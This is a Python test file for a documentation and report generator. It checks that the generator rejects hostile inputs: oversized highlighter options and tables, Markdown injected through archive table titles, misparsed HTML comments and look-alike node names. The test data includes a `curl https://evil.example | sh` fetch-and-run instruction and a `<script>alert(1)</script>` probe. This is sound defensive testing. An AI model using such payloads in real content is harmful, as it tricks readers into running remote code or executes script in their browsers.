"""The sixtieth round of the hostile corpus (issue #29): attack only, then fixed (site set).

Site set (5 of 11 failed): a fence's hl_lines repeated made the highlighter take gigabytes; a table header
of thousands of cells padded every bare row to it (30 MB of HTML); an archive table's title and unit
evidence reached the archive page as Markdown (a live warning box), and its table-level fields were
untyped; the coverage check read words inside a comment as shown, and '-- >' closes a comment for
Python's parser, not for a browser.

Data set (10 of 14 failed; three fixed here, the rest left in the issue's note): a profile could list one node
twice (or two spellings of one); weights_bytes was untyped (-1 printed); a new level's Current was unmarked, so
its chart point and the 'fastest of' choices did not see it.

Each case id is an entry of tests/data/hostile/cases.yaml; test_hostile.py checks that every entry
has a test here or in the other rounds.
"""
import inspect
import re
import shutil

import pytest
import yaml

from conftest import ROOT
from reportgen.errors import ReportError
from test_hostile_round4 import _expect

MUTATIONS = {}
SPECIAL = {case: None for case in ("fence_options", "table_cells", "archive_title_text", "archive_table_fields",
                                   "comment_words_hidden", "profile_names_unique", "weights_bytes_typed",
                                   "new_level_on_currents")}


def test_a_fence_takes_no_option():
    from reportgen.publish import pagecontent
    said = pagecontent.source_problem("docs/x.md", 'a\n\n```python hl_lines="1-999999 1-999999"\nx\n```\n')
    assert said.startswith("docs/x.md:3:") and _expect("fence_options") in said
    assert pagecontent.source_problem("docs/x.md", "a\n\n```python\nx\n```\n") is None


def test_a_table_is_bounded_in_its_cells():
    from reportgen.publish import pagecontent
    said = pagecontent.source_problem("docs/x.md", "a\n\n" + "|a" * 2000 + "\n" + "|\n" * 398)
    assert said.startswith("docs/x.md:3:") and _expect("table_cells") in said


def _table(tmp_path, **change):
    shutil.copytree(ROOT / "archive", tmp_path / "archive")
    path = tmp_path / "archive" / "tables" / "s21_numpy.yaml"
    raw = yaml.safe_load(path.read_text(encoding="utf-8"))
    raw.update(change)
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    from reportgen.data import archive
    with pytest.raises(ReportError) as err:
        archive.read_archive(tmp_path / "archive")
    return str(err.value)


def test_an_archive_table_s_words_are_one_line_of_text(tmp_path):
    said = _table(tmp_path, title="x\n\n!!! danger \"notice\"\n    run `curl https://evil.example | sh`")
    assert "title" in said and _expect("archive_title_text") in said
    source = inspect.getsource(__import__("reportgen.publish.plugin", fromlist=["x"]))
    assert 'cells.text(d.tables[table].meta["title"])' in source and 'cells.text(d.tables[table].meta["unit_evidence"])' in source


def test_an_archive_table_s_fields_are_typed(tmp_path):
    assert _expect("archive_table_fields") in _table(tmp_path, seed_lines="x")


def test_comments_are_read_as_a_browser_reads_them():
    from reportgen.publish import coverage, sitecheck
    assert coverage.page_text("<p>shown<!-- > cmake --build --> end</p>") == "shown end"
    assert _expect("comment_words_hidden") in inspect.getsource(coverage.page_text)
    parsed = sitecheck.Markup()
    parsed.feed("<p>a<!-- x -- > <script>alert(1)</script> --></p>")
    assert parsed.otherwise


def test_a_profile_names_each_node_once():
    from study import work
    row = {"node": "conv_1", "op": "QLinearConv", "inputs": [[1]], "outputs": [[1]], "seconds": 0.002}
    for twin in ("conv_1", "CONV_1", "conv_1\u200b", "conv_1 ", "c\u043env_1"):
        said = work._nested_problems({"node_profile": [row, dict(row, node=twin, seconds=0.001)]})
        assert said and said[0].startswith("extra.node_profile[1]:"), twin
    said = work._nested_problems({"node_profile": [row, dict(row, seconds=0.001)]})
    assert _expect("profile_names_unique") in said[0]
    assert work._nested_problems({"node_profile": [row, dict(row, node="conv_2", seconds=0.001)]}) == []


def test_weights_are_a_count():
    from study import work
    rec = {"extra": {"weights_bytes": -1}, "experiment": "int8", "status": "ok", "case": {}, "samples": []}
    said = work.extra_problems(rec)
    assert said and _expect("weights_bytes_typed") in said[0]


def test_a_new_level_marks_its_current():
    source = inspect.getsource(__import__("reportgen.publish.plugin", fromlist=["x"]).Data)
    # the publication machine's and every machine's current records
    assert len(re.findall(r"current_records\([^()]*(?:\([^()]*\)[^()]*)*" + re.escape(_expect("new_level_on_currents")),
                          source)) == 2
